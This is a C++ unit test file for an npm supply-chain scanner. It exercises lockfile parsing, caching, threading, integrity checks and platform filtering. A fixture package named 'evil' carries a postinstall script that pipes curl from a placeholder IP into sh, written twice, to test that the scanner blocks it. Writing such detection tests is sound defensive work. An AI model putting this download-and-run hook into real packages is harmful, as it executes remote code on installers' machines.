#include "scan/pipeline.h"

#include <fmt/format.h>
#include <gtest/gtest.h>

#include <algorithm>
#include <mutex>

#include "base/hash.h"
#include "base/limits.h"
#include "base/text.h"
#include "formats/tar_builder.h"
#include "net/fake_http_client.h"
#include "policy/read_policy.h"
#include "registry/settings.h"
#include "scan/other_platform.h"
#include "scan/work_room.h"

namespace scan {
namespace {

using Files = std::vector<std::pair<std::string, std::string>>;

ByteVector Pack(const Files& files) {
  formats::TarBuilder builder;
  for (const auto& [path, content] : files) builder.File("package/" + path, content);
  return builder.End().Gzipped();
}

struct Published {
  std::string name;
  ByteVector tarball;
};

/// A manifest that says enough of its package for no rule to miss anything.
std::string Manifest(const std::string& name, std::string_view more = "") {
  return fmt::format(
      R"({{"name": "{}", "version": "1.0.0", "description": "a sample", "license": "MIT"{}}})",
      name, more);
}

Published Clean(const std::string& name) {
  return {
      .name = name,
      .tarball = Pack({{"package.json", Manifest(name)}, {"index.js", "module.exports = 1\n"}})};
}

Published Hostile() {
  return {.name = "evil",
          .tarball = Pack({{"package.json",
                            "{\"name\": \"evil\", \"version\": \"1.0.0\",\n \"scripts\": "
                            "{\"postinstall\": \"curl -s http://192.0.2.1/x | sh\"}}"}})};
}

/// A project, a registry and a store in memory. Cards count whatever their status, so that these
/// tests do not hang on which are stable.
class PipelineTest : public testing::Test {
 protected:
  PipelineTest() : rules_(*detect::RuleSet::Load({})) {
    policy_ = policy::BuiltInPolicy();
    files_.Add("/home/.npmrc", "registry=https://registry.example/\n");
    settings_.reset(new registry::Settings(
        registry::Npmrc::Read(files_, {}, {.home = "/home", .project = "/app"}),
        registry::Environment(), [] { return Result<std::string>(Fail("nobody knows")); }));
  }

  void Publish(const Published& package) {
    http_.Add(fmt::format("https://registry.example/{0}/-/{0}-1.0.0.tgz", package.name), 200,
              AsText(package.tarball));
    http_.Add(
        "https://registry.example/" + package.name, 200,
        fmt::format(
            R"({{"name": "{0}", "dist-tags": {{"latest": "1.0.0"}}, "versions": {{"1.0.0": {{"version": "1.0.0",
                          "dist": {{"tarball": "https://registry.example/{0}/-/{0}-1.0.0.tgz"}}}}}}}})",
            package.name));
  }

  /// The project's lockfile with these packages, in this order.
  void Lock(const std::vector<Published>& packages) {
    std::string entries;
    std::string wanted;
    for (const Published& package : packages) {
      wanted += fmt::format("{}\"{}\": \"1.0.0\"", wanted.empty() ? "" : ", ", package.name);
      entries += fmt::format(
          ",\n\"node_modules/{}\": {{\"version\": \"1.0.0\", \"resolved\": "
          "\"https://registry.example/{}/-/{}-1.0.0.tgz\", \"integrity\": \"{}\"}}",
          package.name, package.name, package.name, Integrity::Of(package.tarball).ToString());
    }
    const std::string root =
        fmt::format("\"name\": \"app\", \"version\": \"1.0.0\", \"dependencies\": {{{}}}", wanted);
    files_.Add("/app/package.json", "{" + root + "}");
    files_.Add("/app/package-lock.json",
               fmt::format("{{\"name\": \"app\", \"version\": \"1.0.0\", \"lockfileVersion\": 3, "
                           "\"packages\": {{\"\": {{{}}}{}}}}}",
                           root, entries));
  }

  [[nodiscard]] Result<Assessment> CheckWith(net::HttpClient& http, Options options) {
    registry::Client client({.settings = *settings_,
                             .files = files_,
                             .clock = clock_,
                             .http = http,
                             .cache_folder = "/cache",
                             .stop = options.stop});
    options.preview = true;
    return Check({.files = files_,
                  .clock = clock_,
                  .registry = client,
                  .store = *store_,
                  .rules = rules_,
                  .policy = policy_},
                 "/app", options);
  }
  [[nodiscard]] Assessment MustCheck(Options options) {
    auto assessment = CheckWith(http_, std::move(options));
    EXPECT_TRUE(assessment.has_value()) << (assessment ? "" : assessment.error().message);
    return assessment ? *std::move(assessment) : Assessment{};
  }

  static std::string CachePath(const Published& package) {
    const std::string hex = Hex(Sha512(package.tarball));
    return fmt::format("/cache/content/sha512/{}/{}", hex.substr(0, 2), hex.substr(2));
  }

  static std::vector<std::string> RulesIn(const Assessment& assessment, std::string_view label) {
    std::vector<std::string> rules;
    for (const JudgedFinding& judged : assessment.findings) {
      if (judged.package && assessment.inventory.at(*judged.package).name->text() == label)
        rules.push_back(judged.finding.rule);
    }
    return rules;
  }

  /// Everything but where bytes came from and how long it took, one line each.
  static std::vector<std::string> Gist(const Assessment& assessment) {
    std::vector<std::string> lines;
    for (const PackageAssessment& package : assessment.packages) {
      lines.push_back(fmt::format("{} {} {} {} {}", assessment.inventory.at(package.package).path,
                                  NameOf(package.verdict.action), package.integrity.ToString(),
                                  package.files, package.bytes));
    }
    for (const JudgedFinding& judged : assessment.findings) {
      const std::string path = judged.package ? assessment.inventory.at(*judged.package).path : "";
      lines.push_back(fmt::format("{} {} {} {} {}", path, judged.finding.rule,
                                  NameOf(judged.finding.severity), NameOf(judged.verdict.action),
                                  judged.finding.facts.size()));
    }
    for (const NotAnalysed& gap : assessment.not_analysed) lines.push_back(gap.reason);
    lines.push_back(std::string(NameOf(assessment.verdict.action)));
    return lines;
  }

  FakeFileSystem files_;
  FakeClock clock_{1'781'658'720'000};
  net::FakeHttpClient http_;
  net::OfflineHttpClient offline_;
  std::unique_ptr<const registry::Settings> settings_;
  std::unique_ptr<store::Store> store_ = store::OpenMemoryStore();
  detect::RuleSet rules_;
  Policy policy_;
};

TEST_F(PipelineTest, ReadsEveryPackageOnceAndRemembersIt) {
  const std::vector<Published> packages = {Clean("a"), Clean("b"), Hostile()};
  for (const Published& package : packages) Publish(package);
  Lock(packages);
  const Assessment first = MustCheck({});
  EXPECT_EQ(first.packages.size(), 3U);
  EXPECT_EQ(first.stats.files, 5U);
  EXPECT_EQ(http_.urls().size(), 6U) << "a tarball and a manifest each";
  const std::vector<std::string> rules = RulesIn(first, "evil");
  EXPECT_NE(std::find(rules.begin(), rules.end(), "install-download-run"), rules.end());
  EXPECT_TRUE(RulesIn(first, "a").empty());
  EXPECT_TRUE(first.not_analysed.empty());

  const Assessment second = MustCheck({});
  EXPECT_EQ(http_.urls().size(), 6U) << "nothing is fetched again, not even what was not there";
  EXPECT_EQ(second.stats.packages_from_store, 3U);
  EXPECT_EQ(Gist(second), Gist(first));
}

TEST_F(PipelineTest, GivesTheSameForAnyNumberOfThreadsAndAnyOrderOfTheLockfile) {
  std::vector<Published> packages = {Hostile()};
  for (int i = 0; i < 40; ++i) packages.push_back(Clean(fmt::format("p{}", i)));
  for (const Published& package : packages) Publish(package);
  Lock(packages);
  const std::vector<std::string> alone = Gist(MustCheck({.jobs = 1}));
  for (const unsigned jobs : {2U, 7U}) {
    store_ = store::OpenMemoryStore();
    EXPECT_EQ(Gist(MustCheck({.jobs = jobs})), alone) << jobs;
  }
  std::reverse(packages.begin(), packages.end());
  Lock(packages);
  store_ = store::OpenMemoryStore();
  EXPECT_EQ(Gist(MustCheck({.jobs = 2})), alone);
}

/// More than limits::kWorkBytes at once: every package is read all the same, also those that turn
/// out too large once they are unpacked. What waits, waits in the cache, and where nothing can be
/// kept there in memory, up to limits::kSetAsideBytes.
TEST_F(PipelineTest, ReadsPackagesThatDoNotFitBesideOneAnother) {
  constexpr std::size_t kBytes = 20 * limits::kMiB;
  static_assert(3 * kBytes / 4 * 3 > limits::kSetAsideBytes);
  static_assert(2 * 10 * kBytes > limits::kWorkBytes && 3 * kBytes < limits::kWorkBytes);
  std::string noise(kBytes, '/');  // one comment, of six random bits in each byte
  std::uint64_t state = 1;
  for (std::size_t i = 2; i < noise.size(); ++i) {
    state = state * 6364136223846793005U + 1442695040888963407U;
    noise[i] = static_cast<char>('0' + (state >> 58U));
  }
  std::vector<Published> packages;
  for (const std::string name : {"a", "b", "c", "d", "e"}) {
    const std::string manifest = fmt::format(R"({{"name": "{}", "version": "1.0.0"}})", name);
    packages.push_back(
        {.name = name, .tarball = Pack({{"package.json", manifest}, {"noise.js", noise}})});
    packages.push_back(Clean("small-" + name));
  }
  for (const Published& package : packages) Publish(package);
  Lock(packages);
  const Assessment assessment = MustCheck({.jobs = 3});
  EXPECT_EQ(assessment.packages.size(), packages.size());
  EXPECT_TRUE(assessment.not_analysed.empty());
  EXPECT_EQ(assessment.stats.packages, packages.size());
  EXPECT_GT(assessment.stats.bytes, 5 * kBytes);

  // What is in the cache and says how large it is waits unread.
  for (const unsigned jobs : {1U, 3U}) {
    store_ = store::OpenMemoryStore();
    EXPECT_EQ(Gist(MustCheck({.jobs = jobs})), Gist(assessment));
  }

  for (const Published& package : packages)
    ASSERT_TRUE(files_.Remove(CachePath(package)).has_value()) << package.name;
  files_.FailWrites("no space left on device");
  store_ = store::OpenMemoryStore();
  EXPECT_EQ(Gist(MustCheck({.jobs = 3})), Gist(assessment));
}

/// Answers what is asked of some URLs only when it is told to.
class LateHttpClient final : public net::HttpClient {
 public:
  LateHttpClient(net::HttpClient& inner, std::string late_end)
      : inner_(inner), late_end_(std::move(late_end)) {}
  void Start(net::Request request, net::Done done) override {
    {
      const std::lock_guard lock(mutex_);
      if (!let_go_ && request.url.ToString().ends_with(late_end_)) {
        late_.emplace_back(std::move(request), std::move(done));
        return;
      }
    }
    inner_.Start(std::move(request), std::move(done));
  }
  void LetGo() {
    std::vector<std::pair<net::Request, net::Done>> late;
    {
      const std::lock_guard lock(mutex_);
      let_go_ = true;
      late.swap(late_);
    }
    for (auto& [request, done] : late) inner_.Start(std::move(request), std::move(done));
  }

 private:
  net::HttpClient& inner_;
  const std::string late_end_;
  std::mutex mutex_;
  bool let_go_ = false;
  std::vector<std::pair<net::Request, net::Done>> late_;
};

/// It may be that the network can bring it only once the tarballs before it were taken.
TEST_F(PipelineTest, NobodyWaitsForAManifestWhileThereIsSomethingToRead) {
  const std::vector<Published> packages = {Clean("a"), Clean("b"), Hostile()};
  for (const Published& package : packages) Publish(package);
  http_.Add("https://registry.example/a/1.0.0", 200,
            R"({"name": "a", "version": "1.0.0", "scripts": {"postinstall": "node a.js"}})");
  Lock(packages);
  LateHttpClient late(http_, "/a/1.0.0");
  const auto assessment = CheckWith(late, {.jobs = 1, .on_progress = [&](const Progress& progress) {
                                             if (progress.done == 2) late.LetGo();
                                           }});
  ASSERT_TRUE(assessment.has_value()) << assessment.error().message;
  store_ = store::OpenMemoryStore();
  EXPECT_EQ(Gist(*assessment), Gist(MustCheck({})));
  EXPECT_FALSE(RulesIn(*assessment, "a").empty()) << "it was held against what came late";
}

/// The files of a tarball that is not compressed lie in the tarball itself.
TEST_F(PipelineTest, APlainTarIsReadLikeAnyOther) {
  formats::TarBuilder builder;
  builder.File("package/package.json", R"({"name": "evil", "version": "1.0.0",
    "scripts": {"postinstall": "curl -s http://192.0.2.1/x | sh"}})");
  const Bytes archive = builder.End().bytes();
  const Published plain{.name = "evil", .tarball = {archive.begin(), archive.end()}};
  Publish(plain);
  Lock({plain});
  EXPECT_EQ(MustCheck({}).verdict.action, Action::kBlock);
}

TEST_F(PipelineTest, WrongBytesBlockAndAreNeverKept) {
  const Published right = Clean("a");
  Published wrong = Hostile();
  wrong.name = "a";
  Publish(wrong);
  Lock({right});
  for (int run = 0; run < 2; ++run) {
    const Assessment assessment = MustCheck({});
    ASSERT_EQ(RulesIn(assessment, "a"), std::vector<std::string>{"integrity-mismatch"});
    EXPECT_EQ(assessment.findings.front().finding.severity, Severity::kCritical);
    EXPECT_EQ(assessment.findings.front().finding.facts.front().Find("expected")->View(),
              Integrity::Of(right.tarball).ToString());
    ASSERT_EQ(assessment.not_analysed.size(), 1U);
  }
  const auto kept = files_.List("/cache/content");
  EXPECT_TRUE(!kept || kept->empty());
}

TEST_F(PipelineTest, WithoutNetworkTheInstalledFolderIsReadAndTheReportSaysSo) {
  const std::vector<Published> packages = {Clean("a"), Clean("b")};
  Lock(packages);
  files_.Add("/app/node_modules/a/package.json", R"({"name": "a", "version": "1.0.0"})");
  const auto assessment = CheckWith(offline_, {});
  ASSERT_TRUE(assessment.has_value());
  ASSERT_EQ(assessment->packages.size(), 2U);
  EXPECT_EQ(assessment->packages[0].source, ArtifactSource::kInstalledFolder);
  EXPECT_EQ(assessment->packages[1].source, ArtifactSource::kNone);
  EXPECT_EQ(assessment->not_analysed.size(), 2U);
}

TEST_F(PipelineTest, HoldsTheManifestOfADirectDependencyAgainstTheRegistrys) {
  const std::vector<Published> packages = {Clean("a"), Hostile()};
  for (const Published& package : packages) Publish(package);
  http_.Add("https://registry.example/evil/1.0.0", 200,
            R"({"name": "evil", "version": "1.0.0", "scripts": {}})");
  http_.Add("https://registry.example/a/1.0.0", 200, R"({"name": "a", "version": "1.0.0"})");
  Lock(packages);
  const Assessment first = MustCheck({});
  const std::vector<std::string> rules = RulesIn(first, "evil");
  EXPECT_EQ(std::count(rules.begin(), rules.end(), "manifest-confusion"), 1);
  EXPECT_TRUE(RulesIn(first, "a").empty());

  const std::size_t asked = http_.urls().size();
  EXPECT_EQ(Gist(MustCheck({})), Gist(first)) << "remembered with the manifest it was read with";
  store_ = store::OpenMemoryStore();
  EXPECT_EQ(Gist(MustCheck({})), Gist(first)) << "the manifest is kept, so it is compared again";
  EXPECT_EQ(http_.urls().size(), asked);
}

TEST_F(PipelineTest, AsksForNoManifestOfWhatOthersDependOn) {
  Publish(Clean("a"));
  files_.Add("/app/package.json", R"({"name": "app", "version": "1.0.0"})");
  files_.Add(
      "/app/package-lock.json",
      fmt::format(R"({{"name": "app", "version": "1.0.0", "lockfileVersion": 3, "packages": {{
"": {{"name": "app", "version": "1.0.0", "workspaces": []}},
"node_modules/a": {{"version": "1.0.0", "extraneous": true, "resolved": "https://registry.example/a/-/a-1.0.0.tgz", "integrity": "{}"}}}}}})",
                  Integrity::Of(Clean("a").tarball).ToString()));
  EXPECT_EQ(MustCheck({}).packages.size(), 1U);
  EXPECT_EQ(http_.urls(), std::vector<std::string>{"https://registry.example/a/-/a-1.0.0.tgz"});
}

TEST_F(PipelineTest, PublishingToAConfiguredRegistryIsNoRemark) {
  std::vector<Published> packages = {Clean("a"), Clean("b")};
  for (Published& package : packages) {
    const std::string_view host = package.name == "a" ? "registry" : "other";
    package.tarball =
        Pack({{"package.json",
               Manifest(package.name,
                        fmt::format(R"(, "publishConfig": {{"registry": "https://{}.example/"}})",
                                    host))},
              {"index.js", "module.exports = 1\n"}});
    Publish(package);
  }
  Lock(packages);
  const Assessment assessment = MustCheck({});
  EXPECT_TRUE(RulesIn(assessment, "a").empty());
  EXPECT_EQ(RulesIn(assessment, "b"), std::vector<std::string>{"publish-elsewhere"});
}

TEST_F(PipelineTest, ACacheThatCannotBeWrittenIsToldOnceAndCostsNothingElse) {
  const std::vector<Published> packages = {Clean("a"), Clean("b")};
  for (const Published& package : packages) Publish(package);
  Lock(packages);
  files_.FailWrites("no space left on device");
  const Assessment assessment = MustCheck({.jobs = 2});
  EXPECT_EQ(assessment.packages.size(), 2U);
  EXPECT_TRUE(assessment.not_analysed.empty());
  ASSERT_EQ(assessment.diagnostics.size(), 1U);
  const Diagnostic& told = assessment.diagnostics.front();
  EXPECT_EQ(told.code, "C001");
  EXPECT_EQ(told.level, Diagnostic::Level::kWarning);
  EXPECT_NE(told.message.find("no space left on device"), std::string::npos) << told.message;
  EXPECT_NE(told.help.find("SALLYPORT_CACHE_DIR"), std::string::npos) << told.help;
}

TEST_F(PipelineTest, WhatNoInstallHereTakesIsNoGap) {
  Publish(Clean("a"));
  const auto entry = [](std::string_view name, const Integrity& integrity, std::string_view more) {
    return fmt::format(
        ",\n\"node_modules/{0}\": {{\"version\": \"1.0.0\", \"resolved\": "
        "\"https://registry.example/{0}/-/{0}-1.0.0.tgz\", \"integrity\": \"{1}\"{2}}}",
        name, integrity.ToString(), more);
  };
  const auto missing = [&](std::string_view name, std::string_view more) {
    return entry(name, Integrity::Of(AsBytes("never fetched")), more);
  };
  files_.Add("/app/package.json", R"({"name": "app", "version": "1.0.0",
      "dependencies": {"a": "1.0.0", "needed": "1.0.0"},
      "optionalDependencies": {"other-os": "1.0.0", "any-os": "1.0.0"}})");
  files_.Add(
      "/app/package-lock.json",
      R"({"name": "app", "version": "1.0.0", "lockfileVersion": 3, "packages": {"": {"name": "app",
         "version": "1.0.0", "dependencies": {"a": "1.0.0", "needed": "1.0.0"},
         "optionalDependencies": {"other-os": "1.0.0", "any-os": "1.0.0"}})" +
          entry("a", Integrity::Of(Clean("a").tarball), "") +
          missing("any-os", R"(, "optional": true, "os": ["!nowhere"])") +
          missing("below", R"(, "optional": true)") + missing("needed", R"(, "os": ["nowhere"])") +
          missing("other-os", R"(, "optional": true, "os": ["nowhere"], "cpu": ["abacus"],
                               "dependencies": {"below": "1.0.0"})") +
          "}}");
  const Assessment assessment = MustCheck({});
  const auto labels = [&](const auto& list) {
    std::string text;
    for (const auto& one : list)
      text += assessment.inventory.at(PackageIndex(one.package)).name->text() + " ";
    return text;
  };
  ASSERT_EQ(labels(assessment.other_platform), "below other-os ");
  EXPECT_EQ(assessment.other_platform[0].reason, "wanted only by packages for other platforms");
  EXPECT_EQ(assessment.other_platform[1].reason, "made for os `nowhere`, cpu `abacus`");
  std::string gaps;
  for (const NotAnalysed& gap : assessment.not_analysed)
    gaps += assessment.inventory.at(*gap.package).name->text() + " ";
  EXPECT_EQ(gaps, "any-os needed ") << "npm takes the one, and does not go on without the other";
}

TEST_F(PipelineTest, WhatIsForAnotherPlatformIsReadWhereItCanBeHad) {
  Publish(Clean("a"));
  Publish(Hostile());
  Lock({Clean("a"), Hostile()});
  std::string lock(AsText(*files_.Read("/app/package-lock.json", 1U << 20U)));
  const std::string evil = "\"node_modules/evil\": {";
  lock.insert(lock.find(evil) + evil.size(), R"("optional": true, "os": ["nowhere"], )");
  lock = ReplaceAll(lock, "\"dependencies\"", "\"optionalDependencies\"");
  files_.Add("/app/package-lock.json", lock);
  const Assessment assessment = MustCheck({});
  EXPECT_TRUE(assessment.other_platform.empty());
  EXPECT_EQ(assessment.verdict.action, Action::kBlock);
}

TEST(OtherPlatform, NpmsSettingsNameAnother) {
  FakeFileSystem files;
  files.Add("/home/.npmrc", "os=nowhere\nlibc=own\n");
  const auto npmrc = registry::Npmrc::Read(files, {}, {.home = "/home", .project = "/app"});
  EXPECT_EQ(PlatformOf(npmrc),
            (Platform{.os = "nowhere", .cpu = ThisPlatform().cpu, .libc = "own"}));
}

TEST_F(PipelineTest, InstalledTreesAreHeldAgainstTheirTarballs) {
  const std::vector<Published> packages = {Clean("a"), Clean("b")};
  for (const Published& package : packages) Publish(package);
  Lock(packages);
  for (const char* name : {"a", "b"}) {
    files_.Add(fmt::format("/app/node_modules/{}/package.json", name), Manifest(name));
    files_.Add(fmt::format("/app/node_modules/{}/index.js", name), "module.exports = 1\n");
  }
  EXPECT_TRUE(MustCheck({.installed = true}).findings.empty());
  files_.Add("/app/node_modules/b/index.js", "module.exports = 2\n");
  files_.Add("/app/node_modules/b/extra.js", "module.exports = 3\n");
  const Assessment assessment = MustCheck({.installed = true});
  ASSERT_EQ(RulesIn(assessment, "b"), std::vector<std::string>{"installed-difference"});
  EXPECT_EQ(assessment.findings.front().finding.facts.size(), 2U);
  EXPECT_TRUE(RulesIn(assessment, "a").empty());
  EXPECT_TRUE(MustCheck({}).findings.empty())
      << "what lies on disk is not remembered as what the tarball holds";
}

TEST_F(PipelineTest, StoppingIsAnErrorAndKeepsWhatWasRead) {
  Lock({Clean("a")});
  std::stop_source stop;
  stop.request_stop();
  const auto assessment = CheckWith(http_, {.stop = stop.get_token()});
  ASSERT_FALSE(assessment.has_value());
  EXPECT_NE(assessment.error().message.find("stopped"), std::string::npos);
}

TEST_F(PipelineTest, AnUnreadableLockfileIsAnErrorAndNoCleanAnswer) {
  files_.Add("/app/package.json", R"({"name": "app", "version": "1.0.0"})");
  files_.Add("/app/package-lock.json", "{");
  const auto assessment = CheckWith(http_, {});
  ASSERT_FALSE(assessment.has_value());
  EXPECT_NE(assessment.error().message.find("/app/package-lock.json`:1"), std::string::npos)
      << assessment.error().message;
  EXPECT_FALSE(assessment.error().help.empty());
}

TEST_F(PipelineTest, WhenNothingCanBeReadThereIsNoVerdict) {
  Lock({Clean("a"), Clean("b")});
  const auto assessment = CheckWith(offline_, {});
  ASSERT_FALSE(assessment.has_value());
  EXPECT_NE(assessment.error().message.find("nothing could be read"), std::string::npos);
}

TEST_F(PipelineTest, AFolderWithNothingToVetIsAnError) {
  EXPECT_FALSE(CheckWith(http_, {}).has_value());
}

TEST_F(PipelineTest, VetsThingsOfEveryKindTogether) {
  Publish(Clean("a"));
  const Published evil = Hostile();
  files_.Add("/things/evil.tgz", AsText(evil.tarball));
  files_.Add("/things/folder/package.json", R"({"name": "mine", "version": "2.0.0"})");
  files_.Add("/things/one.js", "1\n");
  registry::Client client({.settings = *settings_,
                           .files = files_,
                           .clock = clock_,
                           .http = http_,
                           .cache_folder = "/cache",
                           .stop = {}});
  const World world{.files = files_,
                    .clock = clock_,
                    .registry = client,
                    .store = *store_,
                    .rules = rules_,
                    .policy = policy_};
  const std::vector<std::string> things = {"/things/evil.tgz", "a@1.0.0", "/things/folder",
                                           "/things/one.js"};
  const auto assessment = Vet(world, things, {.preview = true});
  ASSERT_TRUE(assessment.has_value()) << assessment.error().message;
  ASSERT_EQ(assessment->packages.size(), 4U);
  EXPECT_EQ(assessment->inventory.packages[1].name->text(), "evil");
  EXPECT_EQ(assessment->inventory.packages[3].version, "2.0.0");
  EXPECT_EQ(assessment->packages[1].integrity, Integrity::Of(Clean("a").tarball))
      << "the hash of what the registry gave";
  EXPECT_FALSE(RulesIn(*assessment, "evil").empty());
  const auto missing = Vet(world, std::vector<std::string>{"./none.tgz"}, {});
  ASSERT_FALSE(missing.has_value());
  EXPECT_FALSE(missing.error().help.empty());
  files_.Add("/things/noise.tgz", "no gzip at all");
  const auto noise = Vet(world, std::vector<std::string>{"/things/noise.tgz"}, {});
  ASSERT_FALSE(noise.has_value()) << "an archive without a file is no clean one";
  EXPECT_NE(noise.error().message.find("noise.tgz"), std::string::npos);
  EXPECT_FALSE(noise.error().help.empty());
}

}  // namespace
}  // namespace scan
